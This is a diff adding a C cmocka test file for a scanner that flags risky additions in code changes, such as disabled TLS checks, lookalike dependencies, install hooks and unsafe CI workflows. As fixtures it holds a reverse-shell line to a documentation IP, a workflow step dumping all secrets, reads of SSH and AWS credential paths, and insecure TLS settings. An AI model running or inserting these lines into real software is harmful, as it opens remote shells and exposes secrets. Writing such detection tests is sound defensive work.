@@ -1,0 +1,380 @@
+/* What is new in a change: each attack as a pair of before and after, and beside it what must not be told. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "inspect/scan_change.h"
+
+struct seen {
+	struct scan_rule_set rules;
+	uint32_t n, line;
+};
+
+static void on_found(void *arg, const struct scan_finding *f)
+{
+	struct seen *s = arg;
+	/* What is none of a change's is not looked at. */
+	if (f->rule == SCAN_RULE_TEXT)
+		return;
+	scan_rule_add(&s->rules, f->rule);
+	s->n++;
+	s->line = f->line;
+}
+
+static struct seen changed(const char *name, const char *before, const char *after)
+{
+	const struct scan_options o = {.subjects = SCAN_CHANGES, .limits = scan_limits_default()};
+	struct slice old = slice_str(before);
+	struct scan_summary sum;
+	struct seen s = {0};
+	assert_int_equal(scan_changed(slice_str(after), before ? &old : NULL, NULL, name, &o, &(struct scan_told){.found = on_found, .arg = &s}, &sum), 0);
+	return s;
+}
+
+static void check(const char *name, const char *before, const char *after, uint32_t rule)
+{
+	struct seen s = changed(name, before, after);
+	if (rule == SCAN_RULES ? s.n > 0 : s.n != 1 || !scan_rule_in(&s.rules, rule))
+		fail_msg("%s: %u told of: %s", name, s.n, after);
+}
+
+struct row {
+	const char *name, *text;
+};
+
+static void checks_that_are_off_are_told(void **state)
+{
+	static const struct row tls[] = {
+	        {"a.py", "r = s.get(u, headers=h(1), verify=False)"},
+	        {"a.py", "client.verify = False"},
+	        {"a.py", "c = ssl._create_unverified_context()"},
+	        {"a.py", "ctx.verify_mode = ssl.CERT_NONE"},
+	        {"a.ts", "const a = new Agent({ rejectUnauthorized: false })"},
+	        {"a.js", "x = { \"rejectUnauthorized\": false }"},
+	        {"a.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"},
+	        {"a.js", "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0"},
+	        {"a.js", "x = { checkServerIdentity: () => undefined }"},
+	        {"a.go", "var c = tls.Config{InsecureSkipVerify: true}"},
+	        {"a.rs", "let c = b.danger_accept_invalid_certs(true);"},
+	        {"a.c", "curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 0L);"},
+	        {"a.php", "curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);"},
+	        {"a.rb", "h.verify_mode = OpenSSL::SSL::VERIFY_NONE"},
+	        {"A.java", "public void checkServerTrusted(X509Certificate[] c, String t)\n{\n}\n"},
+	        {"A.java", "public boolean verify(String h, SSLSession s) {\n\treturn true;\n}"},
+	        {"A.cs", "h.ServerCertificateCustomValidationCallback = (a, b, c, d) => true;"},
+	        {"Makefile", "all:\n\tgit -c http.sslVerify=false clone u\n"},
+	        {".npmrc", "strict-ssl = false"},
+	        {".env", "export NODE_TLS_REJECT_UNAUTHORIZED=0"},
+	        {"compose.yaml", "environment:\n  - NODE_TLS_REJECT_UNAUTHORIZED=0\n"},
+	        {"compose.yaml", "  NODE_TLS_REJECT_UNAUTHORIZED: \"0\" # for now\n"},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(tls); i++)
+		check(tls[i].name, "", tls[i].text, SCAN_RULE_CHANGE_TLS);
+	check("a.py", "", "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())", SCAN_RULE_CHANGE_HOST_KEY);
+	check("ssh_config", "", "  StrictHostKeyChecking no", SCAN_RULE_CHANGE_HOST_KEY);
+	check("a.js", "", "app.use(cors({ origin: true, maxAge: 1, credentials: true }))", SCAN_RULE_CHANGE_CORS);
+	check("a.py", "", "m(allow_origins=[\"*\"], allow_credentials=True)", SCAN_RULE_CHANGE_CORS);
+	check("a.py", "", "d(t, options={'verify_signature': False})", SCAN_RULE_CHANGE_SIGNATURE);
+}
+
+static void others_are_not(void **state)
+{
+	static const struct row rows[] = {
+	        {"a.py", "# verify=False\n"},
+	        {"a.py", "x = \"s.get(u, verify=False)\""},
+	        {"a.py", "check(schema, verify=False)"},
+	        {"a.py", "def get(u, verify=True): pass"},
+	        {"a.js", "// rejectUnauthorized: false\n"},
+	        {"a.js", "x = { rejectUnauthorized: isLocal }"},
+	        {"a.js", "cors({ origin: allowed, credentials: true })"},
+	        {"a.go", "var c = tls.Config{InsecureSkipVerify: false}"},
+	        {"a.c", "curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 1L);"},
+	        {"A.java", "public void checkServerTrusted(X509Certificate[] c, String t) {\n\tinner.check(c, t);\n}\n"},
+	        {"A.java", "public boolean verify(String h, SSLSession s) {\n\treturn h.equals(name);\n}"},
+	        {"a.sh", "echo 'curl -k is not to be used'\n"},
+	        {"a.sh", "tar -k x\n"},
+	        {"README.md", "strict-ssl = false"},
+	        {".npmrc", "strict-ssl = true\n# strict-ssl = false\n"},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
+		check(rows[i].name, "", rows[i].text, SCAN_RULES);
+}
+
+static void only_what_is_new_is_told(void **state)
+{
+	(void)state;
+	const char *off = "r = s.get(u, verify=False)\n";
+	check("a.py", off, off, SCAN_RULES);
+	check("a.py", NULL, off, SCAN_RULE_CHANGE_TLS);
+	/* Moved, and edited. */
+	check("a.py", off, "\n\nif x:\n\tr = s.get(u, verify=False)\n", SCAN_RULES);
+	check("a.py", off, "r = s.get(u, timeout=3, verify=False)\n", SCAN_RULES);
+	/* One more, and its place. */
+	struct seen s = changed("a.py", off, "q = s.put(u, verify=False)\nr = s.get(u, verify=False)\n");
+	assert_true(s.n == 1 && s.line == 1 && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_TLS));
+	s = changed("a.py", off, "r = s.get(u, verify=False)\nr = s.get(u, verify=False)\n");
+	assert_int_equal(s.n, 1);
+	/* In tests it is a note. */
+	check("tests/a.py", "", off, SCAN_RULE_CHANGE_TEST_WEAK);
+	check("src/a.test.js", "", "x = { rejectUnauthorized: false }", SCAN_RULE_CHANGE_TEST_WEAK);
+	check("pkg/a_test.go", "", "c.InsecureSkipVerify = true", SCAN_RULE_CHANGE_TEST_WEAK);
+	check("src/AppTest.java", "", "x = NoopHostnameVerifier.INSTANCE;", SCAN_RULE_CHANGE_TEST_WEAK);
+	check("src/latest.py", "", off, SCAN_RULE_CHANGE_TLS);
+	check("contest/attest.py", "", off, SCAN_RULE_CHANGE_TLS);
+}
+
+static void what_code_can_do_is_told_once(void **state)
+{
+	static const struct {
+		const char *name, *text;
+		uint32_t rule;
+	} rows[] = {
+	        {"a.py", "import requests\nimport socket\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.py", "from urllib.request import urlopen\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.py", "from subprocess import run\n", SCAN_RULE_CHANGE_ADDS_EXEC},
+	        {"a.py", "import ctypes as c\n", SCAN_RULE_CHANGE_ADDS_NATIVE},
+	        {"a.mjs", "import { get } from 'node:https'\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.js", "const { exec } = require('child_process')\n", SCAN_RULE_CHANGE_ADDS_EXEC},
+	        {"a.js", "f(await import('dgram'))\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.js", "new Function(x)()\n", SCAN_RULE_CHANGE_ADDS_EVAL},
+	        {"a.go", "package a\nimport (\n\t\"fmt\"\n\te \"os/exec\"\n)\n", SCAN_RULE_CHANGE_ADDS_EXEC},
+	        {"a.rs", "use std::net::TcpStream;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.c", "#include <sys/socket.h>\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.c", "int f(void) { return execve(a, b, c); }\n", SCAN_RULE_CHANGE_ADDS_EXEC},
+	        {"A.java", "import java.net.http.HttpClient;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"A.cs", "using System.Net.Http;\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.rb", "require 'net/http'\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.php", "<?php shell_exec($x);\n", SCAN_RULE_CHANGE_ADDS_EXEC},
+	        {"a.sh", "x=$(curl u)\n", SCAN_RULE_CHANGE_ADDS_NETWORK},
+	        {"a.py", "p = os.path.expanduser('~/.bashrc')\n", SCAN_RULE_CHANGE_ADDS_PERSISTENCE},
+	        {"a.py", "p = h + '/.ssh/id_ed25519'\n", SCAN_RULE_CHANGE_ADDS_CREDENTIALS},
+	        /* Names of their own, and words in texts and comments. */
+	        {"a.py", "from .requests import x\nsocket = 3\n# import socket\n", SCAN_RULES},
+	        {"a.js", "import { request } from './http'\nimport https2 from './x'\n", SCAN_RULES},
+	        {"a.js", "re.exec(x); log('child_process'); my.fetch(u)\n", SCAN_RULES},
+	        {"a.go", "package a\nimport \"strings\"\nvar s = \"net/http\"\n", SCAN_RULES},
+	        {"a.c", "#include \"socket.h\"\nvoid filesystem(int x);\n", SCAN_RULES},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		check(rows[i].name, "", rows[i].text, rows[i].rule);
+		check(rows[i].name, rows[i].text, rows[i].text, SCAN_RULES);
+	}
+	check("a.py", "import socket\n", "import requests\n", SCAN_RULES);
+}
+
+/* What is told beside the dependency itself, if anything. */
+static void dependencies_are_judged(void **state)
+{
+	static const struct {
+		const char *name, *before, *after;
+		uint32_t rule;
+	} rows[] = {
+	        {"package.json", "{}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{\"devDependencies\": {\"lodash\": \"^3\"}}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULES},
+	        {"package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"crossenv\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"@typess/node\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"npm:lodahs@1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"preact\": \"1\", \"enquirer\": \"1\", \"@types/x\": \"1\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"github:a/b#c\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"a/b\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"file:../b\", \"y\": \"workspace:*\", \"z\": \"1.x || >=2.5.0\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{\"dependencies\": {\"x\": \"github:a/b#1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
+	                SCAN_RULES},
+	        {"package.json", "{\"dependencies\": {\"x\": \"1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"tests/fixtures/package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"node setup_bun.js\"}}", SCAN_RULE_CHANGE_INSTALL},
+	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"patch-package\"}}", SCAN_RULE_CHANGE_INSTALL_NOTE},
+	        {"package.json", "{}", "{\"scripts\": {\"test\": \"node a.js\"}}", SCAN_RULES},
+	        {"requirements.txt", "", "requests==2 # x\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"requirements-dev.txt", "", "reqeusts>=2\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"requirements.txt", "", "python_dateutil\nPyYAML\nboto\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"requirements.txt", "", "-e git+https://h.example/a/b.git@c#egg=b\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"requirements.txt", "", "b @ https://h.example/b.whl\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"requirements.txt", "", "--extra-index-url https://h.example/simple\n", SCAN_RULE_CHANGE_INDEX},
+	        {"requirements.txt", "", "--index-url https://pypi.org/simple\n", SCAN_RULES},
+	        {".npmrc", "", "registry=https://h.example/\n", SCAN_RULE_CHANGE_INDEX},
+	        {"pyproject.toml", "", "[project]\ndependencies = [\"djagno>=4\"]\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"pyproject.toml", "", "[tool.poetry.dependencies]\npython = \"3\"\nx = {git = \"https://h.example/x\"}\n",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"Cargo.toml", "", "[dependencies]\nserde = \"1\"\nx = {path = \"../x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"Cargo.toml", "", "[dependencies]\nx = {git = \"https://h.example/x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"Cargo.toml", "", "[dependencies]\nserd_ejson = \"1\"\ntokoi = \"1\"\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"Cargo.lock", "", "[[package]]\nname = \"x\"\nsource = \"git+https://h.example/x?rev=1#2\"\n",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"go.mod", "module m\n", "module m\nrequire (\n\ta.example/b v1.0.0 // indirect\n)\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"go.mod", "module m\n", "module m\nreplace a.example/b => c.example/b v1.0.0\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"go.mod", "module m\n", "module m\nreplace (\n\ta.example/b => ../b\n\tc.example/d => c.example/d v2.0.0\n)\n",
+	                SCAN_RULES},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct seen s = changed(rows[i].name, rows[i].before, rows[i].after);
+		struct scan_rule_set others = s.rules;
+		others.bits[SCAN_RULE_CHANGE_DEPENDENCY / 8] &= (uint8_t) ~(1u << SCAN_RULE_CHANGE_DEPENDENCY % 8);
+		bool only = rows[i].rule == SCAN_RULES ? s.n == 0 : scan_rule_in(&s.rules, rows[i].rule);
+		for (uint32_t k = 0; k < SCAN_RULES; k++)
+			only &= k == rows[i].rule || !scan_rule_in(&others, k);
+		if (!only)
+			fail_msg("%s: %s", rows[i].name, rows[i].after);
+	}
+}
+
+#define LOCKED(name, at, more) "\"node_modules/" name "\": {\"version\": \"1\", \"resolved\": \"https://" at "\"" more "}"
+#define DIGEST                 ", \"integrity\": \"sha512-x\""
+static void lock_files_are_judged(void **state)
+{
+	static const struct {
+		const char *entry;
+		uint32_t rule;
+	} rows[] = {
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("@e/d", "r.example/@e/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("@e/d", "r.example/@e%2fd/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("x/node_modules/d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("d", "r.example/evil/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK_NAME},
+	        {LOCKED("d", "r.example/evil/-/evil-1.tgz", DIGEST ", \"name\": \"evil\""), SCAN_RULES},
+	        {LOCKED("d", "other.example/d/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK},
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", ""), SCAN_RULE_CHANGE_LOCK},
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST ", \"hasInstallScript\": true"), SCAN_RULE_CHANGE_INSTALL_NOTE},
+	        {"\"node_modules/d\": {\"version\": \"1\", \"resolved\": \"git+ssh://git@r.example/a/d.git#1\"}",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	};
+	char text[2000];
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		(void)snprintf(text, sizeof(text), "{\"lockfileVersion\": 3, \"packages\": {\"\": {}, %s, %s, %s, %s}}",
+		        LOCKED("a", "r.example/a/-/a-1.tgz", DIGEST), LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST),
+		        LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST), rows[i].entry);
+		check("package-lock.json", "{}", text, rows[i].rule);
+		check("package-lock.json", text, text, SCAN_RULES);
+	}
+#define YARN(name, url) "\"" name "@^1\":\n  version \"1\"\n  resolved \"https://" url "#abc\"\n  integrity sha512-x\n\n"
+#define THREE           YARN("a", "r.example/a/-/a-1.tgz") YARN("@b/c", "r.example/@b/c/-/c-1.tgz") YARN("d", "r.example/d/-/d-1.tgz")
+	check("yarn.lock", "", THREE, SCAN_RULES);
+	check("yarn.lock", "", THREE YARN("e", "r.example/evil/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK_NAME);
+	check("yarn.lock", "", THREE YARN("e", "other.example/e/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK);
+}
+
+#define WORKFLOW(on, step) "on: " on "\njobs:\n  a:\n    steps:\n      - " step "\n"
+static void what_runs_by_itself_is_judged(void **state)
+{
+	static const struct {
+		const char *name, *text;
+		uint32_t rule;
+	} rows[] = {
+	        {".husky/pre-commit", "npm test\n", SCAN_RULE_CHANGE_ADDS_HOOK},
+	        {".husky/pre-commit", "curl -s https://h.example/x -o x\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {".envrc", "use nix\n", SCAN_RULE_CHANGE_ADDS_HOOK},
+	        {"src/pre-commit", "npm test\n", SCAN_RULES},
+	        {"sitecustomize.py", "x = 1\n", SCAN_RULE_CHANGE_STARTUP},
+	        {"a.pth", "/usr/lib/x\n", SCAN_RULES},
+	        {"a.pth", "import x\n", SCAN_RULE_CHANGE_STARTUP},
+	        {"setup.py", "import setuptools\nimport urllib.request\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {"build.rs", "use std::net::TcpStream;\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {"src/a.py", "import requests\np = h + '/.aws/credentials'\n", SCAN_RULE_CHANGE_REACHES},
+	        {".github/workflows/a.yml", WORKFLOW("pull_request_target", "uses: actions/checkout@v4"), SCAN_RULES},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("pull_request_target",
+	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
+	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("[push, pull_request_target]", "uses: actions/checkout@v4\n        with: {ref: refs/pull/1/merge}"),
+	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("pull_request",
+	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
+	                SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("issues", "run: echo \"${{ github.event.issue.title }}\""),
+	                SCAN_RULE_CHANGE_WORKFLOW_TEXT},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo ${{ github.sha }} ${{ github.event.number }}"), SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("push", "env: {A: \"${{ github.event.issue.title }}\"}"), SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo '${{ toJSON(secrets) }}' >x"), SCAN_RULE_CHANGE_WORKFLOW_SECRETS},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: bash -i >& /dev/tcp/192.0.2.1/4 0>&1"), SCAN_RULE_CODE_COMMAND},
+	        {".github/workflows/a.yml", WORKFLOW("push", "uses: a/b@v1"), SCAN_RULE_CHANGE_DEPENDENCY},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct seen s = changed(rows[i].name, NULL, rows[i].text);
+		if (rows[i].rule == SCAN_RULES ? s.n > 0 : !scan_rule_in(&s.rules, rows[i].rule))
+			fail_msg("%s: %s", rows[i].name, rows[i].text);
+	}
+}
+
+static void what_cannot_be_read_is_told(void **state)
+{
+	static const struct {
+		struct slice bytes;
+		const char *name;
+		uint32_t rule;
+	} rows[] = {
+	        {SLICE_INIT("\177ELF\2\1\1\0"), "bin/tool", SCAN_RULE_CHANGE_PROGRAM},
+	        {SLICE_INIT("\0asm\1\0\0\0"), "a.wasm", SCAN_RULE_CHANGE_PROGRAM},
+	        {SLICE_INIT("\177ELF\2\1\1\0"), "tests/data/tool", SCAN_RULE_CHANGE_ADDS_BINARY},
+	        {SLICE_INIT("\x89PNG\r\n\x1a\n"), "a.png", SCAN_RULES},
+	        {SLICE_INIT("\1\2\3\0\xff"), "a.dat", SCAN_RULE_CHANGE_ADDS_BINARY},
+	};
+	const struct scan_options o = {.subjects = SCAN_CHANGES, .limits = scan_limits_default()};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct scan_summary sum;
+		struct seen s = {0};
+		assert_int_equal(scan_changed(rows[i].bytes, NULL, NULL, rows[i].name, &o, &(struct scan_told){.found = on_found, .arg = &s}, &sum), 0);
+		if (rows[i].rule == SCAN_RULES ? scan_rule_in(&s.rules, SCAN_RULE_CHANGE_ADDS_BINARY)
+		                               : !scan_rule_in(&s.rules, rows[i].rule))
+			fail_msg("%s", rows[i].name);
+		/* What was one before is no news. */
+		assert_int_equal(scan_changed(rows[i].bytes, &rows[i].bytes, NULL, rows[i].name, &o, &(struct scan_told){0}, &sum), 0);
+		assert_true(sum.notes == 0 && sum.verdict < SCAN_SUSPICIOUS);
+	}
+}
+
+/* Without a base nothing of this is said, whatever is asked for. */
+static void whole_trees_are_not_judged(void **state)
+{
+	const struct scan_options o = {.limits = scan_limits_default()};
+	struct scan_summary sum;
+	(void)state;
+	assert_int_equal(scan_bytes(SLICE("s.get(u, verify=False)\n"), "a.py", &o, NULL, NULL, &sum), 0);
+	assert_true(sum.verdict == SCAN_CLEAN && !(sum.looked & SCAN_CHANGES) && sum.notes == 0);
+}
+
+static void what_is_too_large_is_unscanned(void **state)
+{
+	(void)state;
+	size_t n = (size_t)17 << 20;
+	char *text = malloc(n + 1);
+	assert_non_null(text);
+	memset(text, ' ', n);
+	text[n] = 0;
+	check("a.py", "", text, SCAN_RULE_CHANGE_LIMIT);
+	free(text);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	        cmocka_unit_test(checks_that_are_off_are_told),
+	        cmocka_unit_test(others_are_not),
+	        cmocka_unit_test(only_what_is_new_is_told),
+	        cmocka_unit_test(what_code_can_do_is_told_once),
+	        cmocka_unit_test(dependencies_are_judged),
+	        cmocka_unit_test(lock_files_are_judged),
+	        cmocka_unit_test(what_runs_by_itself_is_judged),
+	        cmocka_unit_test(what_cannot_be_read_is_told),
+	        cmocka_unit_test(whole_trees_are_not_judged),
+	        cmocka_unit_test(what_is_too_large_is_unscanned),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
